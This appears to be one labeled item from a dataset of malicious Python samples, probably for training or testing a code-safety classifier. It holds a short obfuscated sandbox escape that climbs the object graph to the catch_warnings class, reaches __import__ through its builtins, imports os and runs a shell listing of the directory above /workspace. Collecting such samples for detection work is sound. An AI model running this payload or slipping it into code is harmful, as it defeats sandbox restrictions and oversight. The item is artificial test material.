# label: malicious; obfuscated: object_graph; evasion: object_graph
w = [x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == "catch_warnings"][0]()
mod = w._module.__builtins__["__import__"]("os")
print(mod.popen("ls -la /workspace/..").read())
